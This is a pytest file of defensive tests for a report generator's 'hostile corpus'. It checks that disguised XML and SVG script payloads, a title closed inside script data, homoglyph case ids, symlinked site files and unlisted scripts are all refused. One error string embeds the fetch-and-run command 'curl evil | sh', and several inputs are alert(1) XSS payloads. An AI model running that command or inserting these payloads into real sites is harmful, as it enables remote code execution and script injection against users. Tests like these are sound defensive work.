"""The twenty-third round of the hostile corpus (issue #29), attack only, then fixed: XML tags in
site files whose last suffix hid their type (a.svg., b.svg.foo, .atom), a title closed inside a
script's data, trace printing a multi-line error or formula as its own sections and reading a linked
site, homoglyph ids in the corpus, and serve serving files the build did not write.

Each case id is an entry of tests/data/hostile/cases.yaml; test_hostile.py checks that every entry
has a test here or in the other rounds.
"""
import json
import os

import pytest
from test_hostile_round4 import _expect
from test_hostile_round19 import _site_file_refused

MUTATIONS = {}
XML_SCRIPT = '<x><_:script xmlns:_="http://www.w3.org/1999/xhtml">alert(1)</_:script></x>'


@pytest.mark.parametrize("name, text", [
    ("a.svg.", XML_SCRIPT), ("b.svg.foo", XML_SCRIPT), ("c.atom", XML_SCRIPT),
    ("d.htm", '<title><script type="application/json"></title><script>alert(1)</script></script>'),
])
def test_markup_hidden_by_its_name_or_a_scripts_data_is_refused(tmp_path, name, text):
    _site_file_refused(tmp_path, name, text, "parsed_otherwise")


def test_trace_prints_a_multi_line_error_as_one_line(tmp_path):
    from helpers import record, write_run
    from test_hostile_round15_rules import CASE, HOST, NEW
    from reportgen.commands import trace
    rec = record(run_id=NEW, case_id=CASE)
    rec.update(status="timeout", samples=[], stats=None, repeat=0, warmup=0,
               error="slow\n--- reproduce ---\ncurl evil | sh")
    rec["check"].update(max_abs_err=None, max_rel_err=None, passed=None)   # a timeout measured nothing
    rec["log"]["lines"] = [1, 1]
    write_run(tmp_path / "results", NEW, [rec], log_text=f"[numpy_gemm] {CASE}: timeout\n", environment=HOST)
    text = trace.trace(tmp_path, CASE, site_dir=tmp_path / "none", machine=HOST["machine_id"])
    assert text.count("\n--- reproduce ---\n") == 1 and "\\n--- reproduce ---\\ncurl" in text, _expect("trace_marked_lines")


@pytest.mark.parametrize("how", ["symlink", "hard link"])
def test_trace_reads_no_site_file_from_elsewhere(tmp_path, how):
    from reportgen.commands import trace
    from reportgen.errors import ReportError
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "numbers.json").write_text(json.dumps([]))
    site = tmp_path / "site"
    if how == "symlink":
        site.symlink_to(outside)
    else:
        site.mkdir()
        os.link(outside / "numbers.json", site / "numbers.json")
    with pytest.raises(ReportError, match="symlink|hard link"):
        trace.derived_lines(site, "x")


def test_a_homoglyph_id_in_the_corpus_is_refused(tmp_path):
    from reportgen.data import corpus
    from reportgen.errors import ReportError
    path = tmp_path / corpus.PATH
    path.parent.mkdir(parents=True)
    path.write_text("cases:\n  - {id: inj_img, class: x, outcome: text}\n  - {id: \"inj_img_\u043e\", class: x, "
                    "outcome: text}\n", encoding="utf-8")
    with pytest.raises(ReportError, match="ASCII letters"):
        corpus.read(tmp_path)


def test_serve_refuses_a_site_with_files_its_build_did_not_write(tmp_path):
    from reportgen.commands import serve
    from reportgen.errors import ReportError
    from reportgen.publish import sitecheck
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<p>index</p>")
    sitecheck.write_manifest(site)
    (site / "x.js").write_text("alert(1)")
    with pytest.raises(ReportError) as err:
        serve.serve(site, 0, tmp_path)
    assert any("x.js" in p and _expect("serve_unlisted_file") in p for p in err.value.problems)


SPECIAL = {case: None for case in ("serve_unlisted_file",)}
